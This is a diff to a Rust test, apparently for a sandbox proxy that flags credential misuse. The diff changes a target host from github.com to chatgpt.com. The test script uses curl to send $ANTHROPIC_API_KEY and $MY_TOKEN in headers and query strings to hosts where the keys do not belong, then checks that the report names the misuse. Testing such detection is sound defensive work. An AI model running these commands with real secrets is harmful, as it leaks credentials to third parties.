@@ -257,7 +257,7 @@ fn the_report_names_the_variable_of_a_placeholder_and_the_flag_that_injects_it()
     }
     let script = "curl -s -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/echo; \
         curl -s -u \"me:$MY_TOKEN\" https://api.openai.com/echo; \
-        curl -s \"https://github.com/echo?key=$ANTHROPIC_API_KEY\"; \
+        curl -s \"https://chatgpt.com/echo?key=$ANTHROPIC_API_KEY\"; \
         dig +short unified-proxy; true";
     let ran = person.sh(&[], script);
     let line = |host: &str| {
@@ -277,7 +277,7 @@ fn the_report_names_the_variable_of_a_placeholder_and_the_flag_that_injects_it()
                 "credential_misuse   (a placeholder for $MY_TOKEN;",
             ),
             (
-                "github.com",
+                "chatgpt.com",
                 "credential_misuse   (a placeholder for $ANTHROPIC_API_KEY;",
             ),
             ("unified-proxy", "this is the sandbox itself"),
